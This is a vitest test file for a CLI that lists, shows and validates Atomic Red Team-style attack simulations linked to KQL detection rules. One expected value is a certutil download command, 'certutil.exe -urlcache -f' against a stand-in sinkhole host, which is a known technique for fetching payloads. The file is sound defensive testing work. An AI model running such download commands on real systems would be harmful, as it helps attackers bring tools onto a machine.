import { describe, expect, test } from "vitest";
import { atomicsCommands } from "../../src/cli/commands/atomics/index.ts";
import { loadAtomics } from "../../src/project/atomics/load-atomics.ts";
import { file, valid } from "../atomic/atomics.ts";
import { runCli } from "../support/fake-io.ts";
import { starterProject, tempFolder } from "../support/temp-project.ts";

const env = { PATH: process.env["PATH"] };

/** Runs `kqltest atomics …` in a folder of `files`. */
function atomics(argv: readonly string[], files: Readonly<Record<string, string>>) {
  return runCli(["atomics", ...argv], { cwd: tempFolder(files), env });
}

const files = { [file]: valid };

test.each(atomicsCommands.map(({ name }) => [name]))("help of %s", async (name) => {
  const { code, out, err } = await runCli(["atomics", name, "--help"]);
  expect({ code, err }).toEqual({ code: 0, err: "" });
  await expect(out).toMatchFileSnapshot(`golden/help-atomics-${name}.txt`);
});

// oxfmt-ignore
test.each([
  [["foo"], "KT0901 unknown command `foo`\n  hint: `kqltest atomics --help` lists what there is\n"],
  [["list", "x"], "KT0901 too many arguments for `list`. Expected 0 arguments but got 1\n  hint: `kqltest atomics list --help` lists what there is\n"],
  [["show"], "KT0901 missing required argument `test`\n  hint: `kqltest atomics show --help` lists what there is\n"],
  [["list", "--executor", "cmd"], "KT0902 `cmd` is no value of `--executor`\n  hint: possible: `command_prompt`, `powershell`, `sh`, `bash`, `manual`\n"],
  [["list", "--technique", "T1105"], "KT0815 no test is like that\n  hint: there is: `T1102`; take a filter away\n"],
  [["show", "T1102-4"], "KT0815 there is no test `T1102-4`\n  hint: did you mean `T1102-1`?\n"],
  [["show", "T1102-1", "--input", "marker"], "KT0902 `marker` is no value of `--input`\n  hint: write it as `name=value`\n"],
  [["show", "T1102-1", "--input", "tries=x"], "KT0816 the value of `tries` is no integer: `x`\n  hint: write a whole number\n"],
  [["validate", "none"], "none KT0811 there is no such file or folder\n"],
])("%j is a mistake", async (argv, err) => {
  expect(await atomics(argv, files)).toEqual({ code: 2, out: "", err });
});

test("without a command it says which there are", async () => {
  const { code, out, err } = await atomics([], files);
  expect({ code, out }).toEqual({ code: 2, out: "" });
  expect(err).toContain("validate [options] [path...]");
  expect(err).toContain("KT0901 `kqltest atomics` needs to be told what to do");
});

describe("list", () => {
  test("a line for each test", async () => {
    const { code, out } = await atomics(["list"], files);
    expect(code).toBe(0);
    expect(out)
      .toBe(`T1102-1  2f1d1a52-5a39-4a0b-8d2b-6f4b1c0f1a01  linux,macos         bash            Fetch a paste
T1102-2  9b0e2c41-3c55-4f0b-9c1c-1f7a4f6d2b02  windows,office-365  manual          Follow a link
T1102-3  6d8e6d5f-0f8b-4f64-9f43-2a1e7c9d3c03  windows             command_prompt  Fetch with certutil
(3 tests)
`);
  });

  test.each([
    [["--platform", "linux"], ["T1102-1"]],
    [
      ["--platform", "windows"],
      ["T1102-2", "T1102-3", "T1102.001-1"],
    ],
    [["--executor", "manual"], ["T1102-2"]],
    [["--technique", "t1102.001"], ["T1102.001-1"]],
    [
      ["--technique", "T1102", "--executor", "command_prompt"],
      ["T1102-3", "T1102.001-1"],
    ],
  ])("%j", async (flags, ids) => {
    const [head = "", , , third = ""] = valid.split("- name:");
    const sub = `${head.replace("T1102", "T1102.001")}- name:${third.replace("6d8e6d5f", "6d8e6d50")}`;
    const { out } = await atomics(["list", "--json", ...flags], {
      ...files,
      "atomics/T1102.001/T1102.001.yaml": sub,
    });
    expect((JSON.parse(out) as { id: string }[]).map(({ id }) => id)).toEqual(ids);
  });

  test("a folder without tests", async () => {
    const { code, err } = await atomics(["list"], {});
    expect(code).toBe(2);
    expect(err).toContain("KT0811 the folder has no atomic tests");
  });

  test("a faulty file stops it, with its place", async () => {
    const { code, err } = await atomics(["list"], {
      [file]: valid.replace("name: bash", "name: zsh"),
    });
    expect(code).toBe(2);
    expect(err).toContain("atomics/T1102/T1102.yaml:41:11 KT0802 ");
  });
});

describe("show", () => {
  test("the test as it would run", async () => {
    const { code, out } = await atomics(["show", "T1102-1", "--input", "marker=run-7"], files);
    expect(code).toBe(0);
    await expect(out).toMatchFileSnapshot("golden/atomics-show.txt");
  });

  test("by its GUID, as JSON", async () => {
    const { out } = await atomics(
      ["show", "6D8E6D5F-0f8b-4f64-9f43-2a1e7c9d3c03", "--json"],
      files,
    );
    expect(JSON.parse(out)).toMatchObject({
      number: 3,
      executor: "command_prompt",
      elevated: true,
      command: "certutil.exe -urlcache -f http://sinkhole.example/x x",
      cleanup: null,
      dependencies: [],
    });
  });

  test("no script steers the terminal", async () => {
    const text = valid.replace("sleep #{pause}", "sleep #{pause} \u001b[31m");
    const cwd = tempFolder({ [file]: text });
    const { out } = await runCli(["atomics", "show", "T1102-1"], { cwd, isTty: true });
    expect(out).toContain("sleep 0.5 \\u001b[31m");
  });
});

describe("validate", () => {
  test("valid tests", async () => {
    expect(await atomics(["validate"], files)).toEqual({
      code: 0,
      out: "3 tests in 1 file: no mistakes\n",
      err: "",
    });
  });

  test.each([
    [["validate", file]],
    [["validate", "atomics/T1102"]],
    [["validate", "atomics", file]],
  ])("%j", async (argv) => {
    expect((await atomics(argv, files)).out).toBe("3 tests in 1 file: no mistakes\n");
  });

  test("all mistakes of all files, scripts included", async () => {
    const { code, err } = await atomics(["validate"], {
      [file]: valid.replace("      done\n", ""),
      "atomics/T1105/T1105.yaml": valid,
      "atomics/T1106/T1106.yml": "x: 1\n",
    });
    expect(code).toBe(2);
    expect(err.match(/^atomics\S* KT\d{4}/gm)).toEqual([
      "atomics/T1105/T1105.yaml:1:19 KT0803",
      "atomics/T1106/T1106.yml:1:1 KT0802",
      "atomics/T1106/T1106.yml:1:1 KT0802",
      "atomics/T1106/T1106.yml:1:1 KT0802",
      "atomics/T1106/T1106.yml:1:1 KT0802",
      "atomics/T1102/T1102.yaml:45:9 KT0814",
    ]);
  });

  test("`--no-shells` starts none", async () => {
    const text = valid.replace("      done\n", "");
    expect((await atomics(["validate", "--no-shells"], { [file]: text })).code).toBe(0);
  });

  test("a shell that is not there is told of", async () => {
    const cwd = tempFolder(files);
    const { code, err } = await runCli(["atomics", "validate"], { cwd, env: { PATH: "/nowhere" } });
    expect(code).toBe(0);
    expect(err).toContain("warning: there is no `bash` on this machine");
  });

  test("a GUID is unique over the whole folder, also where one file is checked", async () => {
    const other = valid.replace("attack_technique: T1102", "attack_technique: T1103");
    const two = { ...files, "atomics/T1103/T1103.yaml": other };
    const { err } = await atomics(["validate", file], two);
    expect(err.match(/^atomics\S* KT\d{4}/gm)).toEqual([
      "atomics/T1102/T1102.yaml:5:24 KT0804",
      "atomics/T1102/T1102.yaml:50:24 KT0804",
      "atomics/T1102/T1102.yaml:60:24 KT0804",
    ]);
    expect(err).toContain("the GUID is that of `Fetch a paste` too, at atomics/T1103/T1103.yaml:5");
  });

  test("a folder without tests is no success", async () => {
    expect((await atomics(["validate"], {})).code).toBe(2);
    expect((await atomics(["validate", "other"], { "other/x.yaml": "x: 1\n" })).err).toContain(
      "KT0811",
    );
  });
});

describe("in a project", () => {
  const [head = "", , , third = ""] = valid.split("- name:");
  const guid = "6d8e6d5f-0f8b-4f64-9f43-2a1e7c9d3c03";
  const test1 = `${head}- name:${third}`
    .replace(
      "  dependencies:",
      "  input_arguments:\n    marker:\n      description: x\n      type: string\n      default: x",
    )
    .replace("/x x", "/#{marker} x");
  const entry = `${guid}:\n  scenario: T1059.001/encoded-command\n  mustFire: [encoded-powershell]\n  marker: marker\n`;

  const validate = (sidecar: string | undefined) =>
    runCli(["atomics", "validate"], {
      env,
      cwd: starterProject({
        [file]: test1,
        ...(sidecar === undefined ? {} : { "atomics/T1102/kqltest.yaml": sidecar }),
      }),
    });

  test("the sidecar is checked against rules, scenarios and expectations", async () => {
    expect(await validate(entry)).toEqual({
      code: 0,
      out: "1 test in 1 file: no mistakes\n",
      err: "",
    });
    expect((await validate(undefined)).err).toContain(
      "T1102.yaml:5:24 KT0822 the test `Fetch with certutil` has no entry in the sidecar",
    );
    expect((await validate(entry.replace("encoded-powershell", "other"))).err).toContain(
      "kqltest.yaml:3:14 KT0824 there is no rule `other`",
    );
    expect((await validate(entry.replace("mustFire", "mustNotFire"))).err).toContain(
      "kqltest.yaml:3:17 KT0827 `mustNotFire` names `encoded-powershell`, but with the twin it is a true-positive",
    );
  });

  test("tests and entries are loaded together", async () => {
    const root = starterProject({ [file]: test1, "atomics/T1102/kqltest.yaml": entry });
    const { techniques, entries } = await loadAtomics(root);
    expect(techniques.map(({ id }) => id)).toEqual(["T1102"]);
    expect(entries.get(guid)).toMatchObject({ marker: "marker", class: "malicious" });
  });

  test("a sidecar beside no tests", async () => {
    const cwd = starterProject({
      [file]: test1,
      "atomics/T1102/kqltest.yaml": entry,
      "atomics/T1103/kqltest.yaml": entry,
    });
    const { code, err } = await runCli(["atomics", "validate"], { cwd, env });
    expect(code).toBe(2);
    expect(err).toContain(
      "atomics/T1103/kqltest.yaml KT0823 there are no atomic tests beside the sidecar",
    );
  });
});
